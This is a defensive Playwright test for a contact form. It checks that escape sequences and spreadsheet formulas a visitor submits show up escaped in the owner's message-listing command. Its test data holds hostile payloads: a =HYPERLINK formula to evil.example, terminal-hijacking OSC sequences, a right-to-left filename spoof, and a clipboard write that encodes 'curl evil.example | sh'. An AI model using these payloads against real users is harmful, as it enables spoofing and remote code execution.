// What a visitor writes in the form reaches the owner's terminal and spreadsheet harmlessly
// (docs/product.md#message-store): sent through the real form to the built server, read back by
// `npm run messages` in a process of its own.
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { type ServerProcess, spawnServer } from "#server/test-support/spawn-server.ts";
import { expect, test } from "./test-support/fixtures.ts";
import { runMessagesCommand } from "./test-support/messages-command.ts";

const BUILT_SERVER = path.join(import.meta.dirname, "../build/server/index.js");

// A formula for the spreadsheet, then what would take over a terminal: set its title, clear it, a
// hidden OSC 8 link, an OSC 52 clipboard write, CSI as the C1 control U+009B, a right-to-left override.
const MESSAGE = [
  '=HYPERLINK("https://evil.example","Open")',
  "\u001b]0;You have been hacked\u0007",
  "\u001b[2J\u001b[H",
  "\u001b]8;;https://evil.example/\u001b\\Your invoice\u001b]8;;\u001b\\",
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007",
  "\u009b31mred",
  "\u202egnp.exe",
].join("\n");
const SUBJECT = "Invoice \u202egnp.exe";

// Every character a terminal may act on: C0 but tab and newline (CR only before LF), DEL, C1, bidi controls.
const ACTIVE_CHARACTER =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

/** The bytes as UTF-8 text, refusing any byte sequence that is not. */
const utf8 = (bytes: Buffer) => new TextDecoder("utf-8", { fatal: true }).decode(bytes);

test("escape sequences sent through the form reach `npm run messages` as visible text, in every format", async ({ page }) => {
  test.slow(); // its own server, a proof of work solved in Chromium, three runs of the command
  const dataDir = mkdtempSync(path.join(tmpdir(), "messages-command-e2e-"));
  let server: ServerProcess | undefined;
  try {
    // A store of its own, so the command prints this message alone.
    server = await spawnServer(BUILT_SERVER, { DATA_DIR: dataDir });
    await page.goto(`${server.url}/`);
    const form = page.getByRole("region", { name: "Send me a message" });
    await form.getByLabel("Email").fill("visitor@example.com");
    await form.getByLabel("Subject").fill(SUBJECT);
    await form.getByLabel("Message").fill(MESSAGE);
    await form.getByRole("button", { name: "Send" }).click();
    await expect(form.getByRole("status")).toHaveText("Thank you for your message. I'll get back to you soon.");

    const json = await runMessagesCommand(dataDir, "--json");
    const table = utf8(await runMessagesCommand(dataDir));
    const csv = utf8(await runMessagesCommand(dataDir, "--csv"));
    // Soft, so one run shows every format that lets a raw character through.
    expect.soft(json.includes(0x1b), "an ESC byte in --json").toBe(false);
    expect.soft(utf8(json), "--json").not.toMatch(ACTIVE_CHARACTER);
    expect.soft(table, "the table").not.toMatch(ACTIVE_CHARACTER);
    expect.soft(csv, "--csv").not.toMatch(ACTIVE_CHARACTER);

    // Still JSON, and exactly what the visitor sent.
    expect(JSON.parse(utf8(json))).toMatchObject([{ email: "visitor@example.com", subject: SUBJECT, message: MESSAGE }]);

    expect(table).toContain("Invoice \\u202egnp.exe");
    expect(table).toContain("\\u001b]0;You have been");
    // Borders, header and one row of one line, each as wide as the others: nothing moved the cursor.
    const lines = table.trimEnd().split("\n").slice(0, -1);
    expect(lines).toHaveLength(5);
    for (const line of lines) expect(line.length).toBe(lines[0]?.length);

    expect(csv).toContain(
      [
        `,visitor@example.com,Invoice \\u202egnp.exe,"'=HYPERLINK(""https://evil.example"",""Open"")`,
        "\\u001b]0;You have been hacked\\u0007",
        "\\u001b[2J\\u001b[H",
        "\\u001b]8;;https://evil.example/\\u001b\\Your invoice\\u001b]8;;\\u001b\\",
        "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007",
        "\\u009b31mred",
        '\\u202egnp.exe",',
      ].join("\n"),
    );
  } finally {
    if (server) {
      server.child.kill("SIGTERM");
      await server.exited;
    }
    rmSync(dataDir, { recursive: true, force: true });
  }
});
